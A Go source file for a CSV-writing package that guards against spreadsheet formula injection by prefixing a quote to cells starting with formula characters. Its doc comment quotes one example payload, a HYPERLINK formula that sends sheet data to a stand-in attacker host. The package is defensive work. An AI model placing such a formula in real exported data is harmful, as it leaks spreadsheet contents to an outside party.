// Package csvsafe writes CSV that a spreadsheet opens without running
// anything: every CSV the relay writes goes through it.
//
// A cell that starts with '=', '+', '-', '@', a tab or a carriage return is
// read by spreadsheets as a formula (a client_ref of
// =HYPERLINK("http://evil.example/?"&A1,"click") would leak the sheet).
// Following OWASP's CSV injection advice, such a cell gets a single quote
// in front ('=HYPERLINK(...)), which spreadsheets show as text; quotes and
// separators inside cells are quoted by encoding/csv as usual. A cell that
// is a plain decimal number ("-1200", "+82", "3.5") is left alone: it is
// read as a number, never as a formula.
package csvsafe

import (
	"encoding/csv"
	"io"
)

// Cell returns v neutralised as the package doc says.
func Cell(v string) string {
	if v == "" {
		return v
	}
	switch v[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if !number(v) {
			return "'" + v
		}
	}
	return v
}

// number reports whether v is [+-]digits[.digits].
func number(v string) bool {
	i := 0
	if v[0] == '+' || v[0] == '-' {
		i++
	}
	digits, dot := 0, false
	for ; i < len(v); i++ {
		switch c := v[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot && digits > 0:
			dot = true
			digits = 0
		default:
			return false
		}
	}
	return digits > 0
}

// Writer is a csv.Writer that neutralises every cell it writes.
type Writer struct {
	*csv.Writer
	buf []string
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record, each cell through Cell.
func (w *Writer) Write(record []string) error {
	w.buf = w.buf[:0]
	for _, v := range record {
		w.buf = append(w.buf, Cell(v))
	}
	return w.Writer.Write(w.buf)
}

// WriteAll writes the records through Write, then flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
